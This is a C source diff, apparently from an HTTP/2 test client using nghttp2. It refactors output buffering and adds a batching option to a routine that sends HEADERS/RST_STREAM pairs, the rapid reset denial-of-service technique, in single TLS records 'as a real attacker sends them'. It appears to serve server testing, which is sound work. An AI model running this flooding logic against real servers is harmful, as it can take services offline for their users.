@@ -444,20 +444,29 @@ static void broken(const char *fmt, ...)
 }
 
 /* Moves nghttp2 output into out and out to the socket. false when the connection is gone. */
+/* Moves the session's output into out (up to OUT_HIGH pending) without writing it. */
+static bool fill_out(struct h2c_sb *out, size_t out_off)
+{
+    while (out->len - out_off < OUT_HIGH) {
+        const uint8_t *data;
+        ssize_t n = nghttp2_session_mem_send(session, &data);
+        if (n < 0) {
+            broken("nghttp2_session_mem_send: %s", nghttp2_strerror((int)n));
+            return false;
+        }
+        if (n == 0) {
+            break;
+        }
+        sb_mem(out, data, (size_t)n);
+    }
+    return true;
+}
+
 static bool pump_out(SSL *ssl, struct h2c_sb *out, size_t *out_off)
 {
     for (;;) {
-        while (out->len - *out_off < OUT_HIGH) {
-            const uint8_t *data;
-            ssize_t n = nghttp2_session_mem_send(session, &data);
-            if (n < 0) {
-                broken("nghttp2_session_mem_send: %s", nghttp2_strerror((int)n));
-                return false;
-            }
-            if (n == 0) {
-                break;
-            }
-            sb_mem(out, data, (size_t)n);
+        if (!fill_out(out, *out_off)) {
+            return false;
         }
         if (*out_off == out->len) {
             out->len = *out_off = 0;
@@ -515,13 +524,16 @@ static void rapid_reset(SSL *ssl, struct h2c_sb *out, size_t *out_off, struct po
             break;
         }
         /* HEADERS must be on the wire (in out) before RST_STREAM is queued, or nghttp2 simply
-         * drops the request. */
-        if (!pump_out(ssl, out, out_off)) {
+         * drops the request. With --rapid-reset-batch the pairs collect in out and go in one
+         * write (one TLS record), as a real attacker sends them. */
+        bool flush = opts.rapid_reset_batch <= 1 || (done + 1) % opts.rapid_reset_batch == 0 ||
+                     done + 1 == opts.rapid_reset;
+        if (!(flush ? pump_out(ssl, out, out_off) : fill_out(out, *out_off))) {
             break;
         }
         nghttp2_submit_rst_stream(session, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
         done++;
-        if (!pump_out(ssl, out, out_off)) {
+        if (!(flush ? pump_out(ssl, out, out_off) : fill_out(out, *out_off))) {
             break;
         }
         if (poll(pfd, 1, 0) > 0 && (pfd->revents & (POLLIN | POLLHUP | POLLERR))) {
